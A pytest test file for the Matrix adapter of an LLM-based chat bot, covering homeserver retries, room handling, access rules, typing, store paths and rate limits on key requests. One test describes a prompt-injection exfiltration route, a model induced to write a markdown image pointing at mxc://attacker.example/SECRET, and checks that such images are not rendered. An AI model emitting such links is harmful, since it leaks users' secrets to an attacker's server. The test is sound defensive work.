"""A homeserver that cannot be reached is named once, clearly, and the adapter keeps trying."""

from __future__ import annotations

import asyncio
import logging
import socket
from pathlib import Path
from typing import Any

import pytest

from adapters.matrix import MatrixAdapter
from bot.app import App
from bot.config import parse_config
from tests.fakes.provider import ScriptedProvider


def _config(tmp_path: Path, homeserver: str = "http://127.0.0.1:9", access: dict[str, Any] | None = None,
            **matrix: Any) -> Any:
    """A bot with Matrix on (at ``homeserver``: by default a port where nothing listens) and no embedder, with
    ``access`` as its ``[access]`` and more ``[matrix]`` keys."""
    return parse_config({
        "storage": {"url": f"sqlite:///{tmp_path / 'bot.db'}"}, "memory": {"embedder": "none"},
        "matrix": {"enabled": True, "homeserver": homeserver, "user_id": "@cortex:localhost",
                   "password_env": "CB_MATRIX_PW", "store_path": str(tmp_path / "matrix"), **matrix},
        "access": access or {},
    })


def _said(sender: str, body: str = "hi Cora") -> Any:
    """A text message of ``sender``."""
    from nio import RoomMessageText

    return RoomMessageText.from_dict({"type": "m.room.message", "event_id": f"$m{sender}", "sender": sender,
                                      "origin_server_ts": 1, "content": {"msgtype": "m.text", "body": body}})


def _room(adapter: MatrixAdapter, room_id: str, kind: str, *members: tuple[str, str]) -> Any:
    """A room of ``kind`` ("group", "dm") the adapter knows, with the bot (Cora) and ``members`` (id, name)."""
    from nio import MatrixRoom

    adapter._remember_kind(room_id, kind)
    room = MatrixRoom(room_id, "@cortex:localhost")
    for user_id, name in (("@cortex:localhost", "Cora"), *members):
        room.add_member(user_id, name, None)
    return room


async def test_an_unreachable_homeserver_is_reported_once_and_retried(tmp_path: Path,
                                                                      caplog: pytest.LogCaptureFixture) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed once the block ends: nothing listens there
    config = _config(tmp_path, f"http://127.0.0.1:{port}")
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        caplog.set_level(logging.INFO, logger="adapters.matrix")
        waiting = asyncio.ensure_future(adapter.wait_for_homeserver(first_wait=0.05, longest_wait=0.2))
        await asyncio.sleep(1.0)
        assert not waiting.done()  # still trying
        told = [r.getMessage() for r in caplog.records if "cannot reach the homeserver" in r.getMessage()]
        assert len(told) == 1 and f"http://127.0.0.1:{port}" in told[0] and "[matrix] homeserver" in told[0]
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting
        await adapter.close()


async def test_rooms_joined_before_kinds_were_kept_stay_their_own_conversation(tmp_path: Path) -> None:
    """A group room the bot joined before it recorded rooms' kinds (or one whose invite said nothing) was
    moved to a new conversation (`!room/group`): its window, summary and switches were left behind. Only a
    room that is (or looks) direct and is not the speaker's own gets the separate conversation."""
    from nio import MatrixRoom

    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        legacy = MatrixRoom("!legacy:localhost", "@cortex:localhost")
        for member in ("@cortex:localhost", "@ann:localhost", "@bob:localhost"):
            legacy.add_member(member, None, None)
        assert await adapter.conversation(legacy, "@ann:localhost") == (False, "!legacy:localhost", None)
        adapter._kinds["!dm:localhost"] = "dm"
        dm = MatrixRoom("!dm:localhost", "@cortex:localhost")
        for member in ("@cortex:localhost", "@ann:localhost", "@bob:localhost"):
            dm.add_member(member, None, None)
        assert await adapter.conversation(dm, "@ann:localhost") == (False, "!dm:localhost/group", "!dm:localhost")
        adapter._kinds["!group:localhost"] = "group"
        group = MatrixRoom("!group:localhost", "@cortex:localhost")
        for member in ("@cortex:localhost", "@ann:localhost"):
            group.add_member(member, None, None)
        assert await adapter.conversation(group, "@ann:localhost") == (False, "!group:localhost", None)


async def test_gaps_skipped_while_one_is_read_back_are_merged_not_dropped(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every sync of a flooded room is limited: while one gap is read back, the next ones wait, merged into
    one stretch (the newest start down to the oldest end) that is read right after. None is dropped."""
    import adapters.matrix as matrix_module

    config = _config(tmp_path)
    read: list[tuple[str, str | None]] = []
    release = asyncio.Event()

    async def gap_read(client: object, room_id: str, prev_batch: str, since: str | None):  # type: ignore[no-untyped-def]
        read.append((prev_batch, since))
        await release.wait()
        return
        yield  # an async generator that yields nothing: no redaction in the gap

    monkeypatch.setattr(matrix_module, "missed_redactions", gap_read)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        adapter._gap("!r:x", "p1", "s0")
        await asyncio.sleep(0.05)
        adapter._gap("!r:x", "p2", "s1")  # while p1 … s0 is read back
        adapter._gap("!r:x", "p3", "s2")
        adapter._gap("!q:x", "q1", None)  # another room: its own catch-up, at once
        await asyncio.sleep(0.05)
        assert read == [("p1", "s0"), ("q1", None)]
        release.set()
        for _ in range(50):
            if not adapter._catching_up:
                break
            await asyncio.sleep(0.02)
        assert read == [("p1", "s0"), ("q1", None), ("p3", "s1")] and not adapter._gaps
        await adapter.close()


async def test_files_of_commands_are_fetched_two_at_a_time(tmp_path: Path) -> None:
    """Each file a command came with is held whole in memory (up to the 50 MB limit), and the router only
    counts a command once it runs: a burst of file commands in one sync fetched all at once."""
    from nio import RoomMessageFile

    config = _config(tmp_path)
    running, most = 0, 0

    async def slow_fetch(mxc: str, filename: str) -> bytes:
        nonlocal running, most
        running += 1
        most = max(most, running)
        await asyncio.sleep(0.05)
        running -= 1
        return filename.encode()

    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        adapter._fetch = slow_fetch  # type: ignore[method-assign]
        events = [RoomMessageFile.from_dict({
            "type": "m.room.message", "event_id": f"$f{i}", "sender": "@ann:localhost", "origin_server_ts": 1,
            "content": {"msgtype": "m.file", "body": "!memory import", "filename": f"e{i}.zip",
                        "url": f"mxc://localhost/f{i}"}}) for i in range(6)]
        got = await asyncio.gather(*(adapter._download(e, f"e{n}.zip", {}) for n, e in enumerate(events)))
        assert [a.data for a in got] == [f"e{n}.zip".encode() for n in range(6)] and most == 2
        await adapter.close()


async def test_an_edited_file_caption_does_not_run_its_command_again(tmp_path: Path) -> None:
    """Edits of text messages were ignored, but an edit of a file's caption ran its command (an import) again."""
    from nio import MatrixRoom, RoomMessageFile

    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        spawned: list[object] = []
        adapter._spawn = lambda work: (spawned.append(work), work.close())  # type: ignore[assignment, method-assign]
        room = MatrixRoom("!dm:localhost", "@cortex:localhost")
        content = {"msgtype": "m.file", "body": "!memory import", "filename": "e.zip", "url": "mxc://localhost/f"}
        first = RoomMessageFile.from_dict({"type": "m.room.message", "event_id": "$f", "sender": "@ann:localhost",
                                           "origin_server_ts": 1, "content": content})
        edit = RoomMessageFile.from_dict({"type": "m.room.message", "event_id": "$g", "sender": "@ann:localhost",
                                          "origin_server_ts": 2, "content": {
                                              **content, "body": "!memory import",
                                              "m.new_content": content,
                                              "m.relates_to": {"rel_type": "m.replace", "event_id": "$f"}}})
        await adapter._on_file(room, first)
        await adapter._on_file(room, edit)
        assert len(spawned) == 1
        await adapter.close()


@pytest.mark.parametrize("filename", ["Cora.jpg", "cortex.png", "!memory.png"])
async def test_a_bare_uploads_file_name_neither_calls_the_bot_nor_is_a_command(tmp_path: Path, filename: str) -> None:
    """A bare upload's body is its file's name: "Cora.jpg" posted in a group room counted as a mention of the
    bot, which answered "I read text" into the room; a name starting with the prefix counted as addressed."""
    from nio import RoomMessageImage

    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        room = _room(adapter, "!group:localhost", "group", ("@ann:localhost", "Ann"), ("@bob:localhost", "Bob"))

        def image(body: str) -> RoomMessageImage:
            return RoomMessageImage.from_dict({"type": "m.room.message", "event_id": "$i", "sender": "@ann:localhost",
                                               "origin_server_ts": 1, "content": {
                                                   "msgtype": "m.image", "body": body, "filename": filename,
                                                   "url": "mxc://localhost/i"}})

        bare = await adapter.inbound(room, image(filename))
        assert not bare.message.is_dm and not bare.message.mentions_bot and bare.message.text == ""
        captioned = await adapter.inbound(room, image("Cora, what do you see?"))  # (a caption still calls it)
        assert captioned.message.mentions_bot and captioned.message.text == "what do you see?"
        await adapter.close()


async def test_typing_stays_on_while_any_answer_in_the_room_is_written(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Typing is one flag per room for the bot: the first of two answers to end turned it off while the second
    was still written (or waited for its turn), and a wait past 30 s let it lapse."""
    import adapters.matrix as matrix

    monkeypatch.setattr(matrix, "TYPING_MS", 300)
    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        calls: list[tuple[str, bool]] = []

        async def room_typing(room_id: str, typing_state: bool = True, timeout: int = 30_000) -> None:
            calls.append((room_id, typing_state))

        monkeypatch.setattr(adapter.client, "room_typing", room_typing)
        await adapter.typing_starts("!r")
        await adapter.typing_starts("!r")
        await asyncio.sleep(0.5)  # renewed before the server's timeout (two thirds of it)
        await adapter.typing_ends("!r")
        assert ("!r", False) not in calls and calls.count(("!r", True)) >= 2, calls
        await adapter.typing_ends("!r")
        assert calls[-1] == ("!r", False)
        count = len(calls)
        await asyncio.sleep(0.4)
        assert len(calls) == count  # no renewal after the last one ended
        await adapter.close()


async def test_help_in_a_room_lists_leave_which_the_adapter_handles(tmp_path: Path) -> None:
    from bot.commands import CommandContext

    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})  # (made twice: listed once)
        room = CommandContext("matrix", "matrix:@ann:localhost", "Ann", "matrix:!r:localhost", "Cora")
        listed = (await app.commands.dispatch("!help", room)).text
        assert listed.count("!leave — make me leave this room (its admins: power level 50 or more)") == 1, listed
        assert "power level 50" in (await app.commands.dispatch("!help leave", room)).text
        dm = CommandContext("matrix", "matrix:@ann:localhost", "Ann", "matrix:!d:localhost", "Cora", is_dm=True)
        elsewhere = CommandContext("discord", "discord:1", "Ann", "discord:2", "Cora")
        for context in (dm, elsewhere):
            assert "!leave" not in (await app.commands.dispatch("!help", context)).text
        await adapter.close()


def test_the_bots_html_holds_no_image_and_no_link_into_a_homeserver() -> None:
    """Markdown images became <img src="mxc://…">: clients load an inline image from its homeserver as soon as
    anyone reads the message, so a model talked into writing ![](mxc://attacker.org/<a secret>) sent the secret
    there without a click."""
    from adapters.matrix import _markdown

    html = _markdown.render("look ![x](mxc://attacker.example/SECRET) and [y](mxc://a/b) ![z](https://e.org/i.png)")
    assert "<img" not in html and "mxc://attacker.example/SECRET" in html  # (as text)
    assert 'href="mxc:' not in html and '<a href="https://e.org/i.png">z</a>' in html  # (an https link stays one)


def test_the_quote_of_a_reply_is_cut_from_the_start_of_a_formatted_body_only() -> None:
    """A lazy regular expression over the whole body took 1.5 s of the event loop for anyone's message holding
    ``<mx-reply>`` six thousand times without its end; the quote, by the spec, sits at the start."""
    from adapters.matrix import without_quoted_reply

    assert without_quoted_reply("<mx-reply><blockquote>old</blockquote></mx-reply>new") == "new"
    unclosed = "<mx-reply>" * 6000
    assert without_quoted_reply(unclosed) == unclosed  # (no end: nothing is a quote)
    assert without_quoted_reply("text <mx-reply>x</mx-reply>") == "text <mx-reply>x</mx-reply>"


async def test_private_answers_never_go_to_a_room_that_was_upgraded(tmp_path: Path) -> None:
    """After a direct room was upgraded (its tombstone names the new room), private answers still went to the
    old one, which clients hide once the new room is joined: the user never saw them."""
    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        room = _room(adapter, "!dm:localhost", "dm", ("@ann:localhost", "Ann"))
        room.join_rule = "invite"
        adapter.client.rooms[room.room_id] = room
        adapter._dms["@ann:localhost"] = room.room_id
        assert await adapter._private_to(room, "@ann:localhost")
        room.replacement_room = "!new:localhost"
        assert not await adapter._private_to(room, "@ann:localhost")
        await adapter.close()


async def test_made_up_sessions_in_a_group_room_ask_for_keys_a_limited_number_of_times(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """In a group room every undecryptable message with a new session id cost a key request and a warning,
    without limit: anyone's server can send made-up sessions without end."""
    from nio import MegolmEvent

    from adapters.matrix import KEY_REQUESTS_PER_MINUTE

    config = _config(tmp_path, e2ee=True)  # (without it the bot asks for no keys: it cannot read such a room)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        room = _room(adapter, "!group:localhost", "group", ("@mal:evil", "Mal"), ("@bob:localhost", "Bob"))
        asked: list[str] = []

        async def request_room_key(event: MegolmEvent) -> None:
            asked.append(event.sender)

        async def creators_known(room_id: str) -> None:  # (read from the server's room state otherwise)
            return None

        adapter.client.request_room_key = request_room_key  # type: ignore[assignment, method-assign]
        adapter._load_creators = creators_known  # type: ignore[assignment, method-assign]
        for n in range(KEY_REQUESTS_PER_MINUTE + 15):
            event = MegolmEvent.from_dict({
                "type": "m.room.encrypted", "event_id": f"$e{n}", "sender": "@mal:evil", "origin_server_ts": 1,
                "content": {"algorithm": "m.megolm.v1.aes-sha2", "sender_key": "c2VuZGVyIGtleQ",
                            "device_id": "MAL", "session_id": f"made-up-{n}", "ciphertext": "eA"}})
            await adapter._on_undecryptable(room, event)
        assert asked == ["@mal:evil"] * KEY_REQUESTS_PER_MINUTE
        assert len([r for r in caplog.records if "could not decrypt" in r.getMessage()]) == KEY_REQUESTS_PER_MINUTE
        await adapter.close()


async def test_admin_ids_written_as_the_access_lists_write_them_make_admins(tmp_path: Path) -> None:
    """``admin_ids = ["matrix:@boss:localhost"]`` passed the config, and was compared as written with the
    sender's bare id: the operator had no admin rights, without a word."""
    config = _config(tmp_path, admin_ids=["matrix:@boss:localhost"])
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        room = _room(adapter, "!g:localhost", "group", ("@boss:localhost", "Boss"), ("@ann:localhost", "Ann"))
        boss, ann = [await adapter.inbound(room, _said(who)) for who in ("@boss:localhost", "@ann:localhost")]
        assert boss.is_bot_admin and boss.is_admin and not (ann.is_bot_admin or ann.is_admin)
        await adapter.close()


async def test_a_listed_power_level_lets_in_that_level_and_above(tmp_path: Path) -> None:
    """``allow_roles = ["matrix:power:50"]`` let in power level 50 only: the room's admins (100) were refused."""
    from bot.policy import refusal

    config = _config(tmp_path, access={"allow_roles": ["matrix:power:50"]})
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        people = {"@admin:localhost": 100, "@mod:localhost": 50, "@ann:localhost": 0, "@low:localhost": 49}
        room = _room(adapter, "!g:localhost", "group", *((who, who[1:4]) for who in people))
        room.power_levels.users.update(people)
        adapter._creators[room.room_id] = frozenset()  # (known: no state to fetch from a server)
        said = {who: refusal(await adapter.inbound(room, _said(who)), config.access, is_command=False)
                for who in people}
        assert said == {"@admin:localhost": None, "@mod:localhost": None, "@ann:localhost": "role not allowed",
                        "@low:localhost": "role not allowed"}
        assert await adapter.ranks_of(room, "@admin:localhost") == (("matrix:power", 100),)  # (for reactions)
        await adapter.close()


async def test_the_store_path_takes_the_home_folder_and_a_relative_one_is_made_absolute_with_a_warning(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    """``store_path = "~/cortex-matrix"`` made a folder named "~" where the bot started, and a relative path was
    read from wherever the bot was when it opened the store: started from another folder it found no session,
    logged in as a new device and lost its encryption keys."""
    home, started, elsewhere = tmp_path / "home", tmp_path / "started", tmp_path / "elsewhere"
    for folder in (home, started, elsewhere):
        folder.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(started)
    tilde = _config(tmp_path, store_path="~/cortex-matrix")
    relative = _config(tmp_path, store_path="matrix-store")
    assert tilde.matrix.store_path == str(home / "cortex-matrix")
    assert relative.matrix.store_path == str(started / "matrix-store")
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert warned == [f"[matrix] store_path 'matrix-store' is relative: the session is kept in {started}/matrix-store "
                      "(under the folder the bot was started in); write an absolute path, or a start from elsewhere "
                      "logs in as a new device"]
    monkeypatch.chdir(elsewhere)  # (the adapter opens the store later, wherever the process is by then)
    for config, store in ((tilde, home / "cortex-matrix"), (relative, started / "matrix-store")):
        async with App(config, llm=ScriptedProvider()) as app:
            adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
            assert adapter.store == store and store.is_dir()
            await adapter.close()
    assert not (started / "~").exists() and not (elsewhere / "~").exists()


def test_two_members_of_one_display_name_are_labelled_with_their_ids_once() -> None:
    """nio names a shared display name "Alice (@alice:localhost)"; the core, seeing a name that ends as a label
    does, added the id again: "Alice (@alice:localhost) (@alice:localhost)"."""
    from nio import MatrixRoom

    from adapters.matrix_content import author_of
    from bot.ports import IncomingMessage

    room = MatrixRoom("!group:localhost", "@cortex:localhost")
    for user, name in (("@alice:localhost", "Alice"), ("@mallory:localhost", "Alice"), ("@bob:localhost", "Bob")):
        room.add_member(user, name, None)

    def label(sender: str, shared: bool) -> str:
        name, handle = author_of(room, sender, shared=shared)
        return IncomingMessage("matrix", room.room_id, sender, name, "hi", author_handle=handle).author_name

    senders = ("@alice:localhost", "@mallory:localhost", "@bob:localhost", "@gone:localhost")
    assert [label(u, False) for u in senders] == [  # (as a DM's own conversation labels them)
        "Alice (@alice:localhost)", "Alice (@mallory:localhost)", "Bob", "@gone:localhost"]
    assert [label(u, True) for u in senders] == [  # (as a room's: always with the id)
        "Alice (@alice:localhost)", "Alice (@mallory:localhost)", "Bob (@bob:localhost)", "@gone:localhost"]


async def test_rooms_the_bot_left_leave_no_record_of_their_creators_or_inviters(tmp_path: Path) -> None:
    """Invited into room after room and kicked out of each, the bot kept each one's creators and inviter (the
    latter in its session file) for good. A room it left takes them along; a room it is still in keeps them."""
    from nio import RoomGetStateResponse

    config = _config(tmp_path)
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})

        async def room_get_state(room_id: str) -> RoomGetStateResponse:
            create = {"type": "m.room.create", "sender": "@ann:localhost", "state_key": "",
                      "content": {"room_version": "12"}}
            return RoomGetStateResponse([create], room_id)

        adapter.client.room_get_state = room_get_state  # type: ignore[method-assign]
        rooms = [f"!r{n}:localhost" for n in range(200)]
        for room_id in rooms:
            adapter._inviters[room_id] = "@ann:localhost"
            await adapter._load_creators(room_id)
        adapter._left(rooms[1:])
        assert list(adapter._creators) == list(adapter._makers) == list(adapter._inviters) == [rooms[0]]
        assert adapter._creators_outrank == {rooms[0]}
        assert adapter._load_state()["room_inviters"] == {rooms[0]: "@ann:localhost"}
        await adapter.close()


async def test_a_session_an_older_version_kept_in_a_folder_named_tilde_is_used_from_there(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    """Before ``~`` was the home folder, ``store_path = "~/cortex-matrix"`` kept the login, the device and the
    encryption keys in a folder named "~" where the bot started. After the upgrade the bot looked in the home
    folder, found no session there, logged in as a new device and left the keys behind."""
    home, started = tmp_path / "home", tmp_path / "started"
    left = started / "~" / "cortex-matrix"
    left.mkdir(parents=True)
    (home / "cortex-matrix").mkdir(parents=True)  # (as a first start of this version left it: no session)
    (left / "session.json").write_text("{}")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(started)
    config = _config(tmp_path, store_path="~/cortex-matrix")
    assert config.matrix.store_path == str(left)
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert warned == [f"[matrix] store_path '~/cortex-matrix': the session is in {left}, where an older version kept "
                      f"it (it read ~ as a folder's name), and is used from there; move that folder to "
                      f"{home}/cortex-matrix to keep it where the config says (until then, a start from another "
                      "folder logs in as a new device)"]
    async with App(config, llm=ScriptedProvider()) as app:
        adapter = MatrixAdapter(app, config.matrix, env={"CB_MATRIX_PW": "x"})
        assert adapter.store == left and (left / "session.json").is_file()
        await adapter.close()
    assert list((home / "cortex-matrix").iterdir()) == []
    (left / "session.json").rename(home / "cortex-matrix" / "session.json")  # moved: the home folder's is used
    assert _config(tmp_path, store_path="~/cortex-matrix").matrix.store_path == str(home / "cortex-matrix")
